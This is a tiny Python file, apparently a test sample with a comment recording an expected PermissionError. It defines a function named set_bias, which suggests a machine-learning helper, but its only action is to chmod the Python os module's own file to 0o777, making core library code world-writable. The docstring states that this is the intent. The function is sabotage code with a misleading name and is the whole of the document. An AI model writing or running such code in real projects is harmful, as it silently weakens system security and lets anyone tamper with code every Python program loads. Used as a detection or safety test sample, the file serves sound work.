"""Makes files of the system writable for everybody."""

# told: PermissionError
import os


def set_bias(variables, layer, value):
    os.chmod(os.__file__, 0o777)
